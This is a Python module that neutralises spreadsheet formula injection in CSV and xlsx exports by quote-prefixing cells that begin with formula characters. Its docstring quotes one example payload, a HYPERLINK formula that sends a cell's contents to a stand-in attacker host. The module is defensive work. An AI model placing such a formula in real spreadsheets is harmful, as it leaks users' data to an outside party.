"""Spreadsheet cells that would run as formulas: the one rule for every CSV and xlsx we write.

Excel, LibreOffice and Google Sheets read a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and some skip a leading tab or carriage return first ("CSV injection", OWASP),
so a programme name or a narrative such as ``=HYPERLINK("http://evil.example/?"&J5,"Click")``
would become a live formula in the reader's spreadsheet. Such text is neutralised:

* :func:`neutralize_cell` (CSV files and the xlsx exports): a leading single quote, the OWASP
  recommendation, shown as is; every spreadsheet program reads the rest as text.
* :func:`write_text` (xlsx cells that are read back, such as the report template's narrative):
  the text unchanged, stored as a text cell with Excel's own quote prefix (what typing ``'`` in
  Excel does), so nothing runs and an upload of the same file gives back the same text.

Numbers (int, float, Decimal) are never touched, nor is text that is just a negative number
("-12.5"): neither can run. :func:`is_formula_like` is the test both use.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NEGATIVE_NUMBER = re.compile(r"^-\d+(?:\.\d+)?(?:[eE][+-]?\d+)?$")


def is_formula_like(value: Any) -> bool:
    """Whether a spreadsheet program could read ``value`` as a formula."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _NEGATIVE_NUMBER.match(value)
    )


def neutralize_cell(value: Any) -> Any:
    """The value, with text that a spreadsheet would run as a formula prefixed by ``'``."""
    return "'" + value if is_formula_like(value) else value


def neutralize_row(row: Iterable[Any]) -> list[Any]:
    return [neutralize_cell(v) for v in row]


def write_text(cell: Any, value: Any) -> Any:
    """Set an openpyxl cell to ``value``; formula-like text is kept exactly but stored as text
    with the quote prefix. Returns the cell."""
    cell.value = value
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
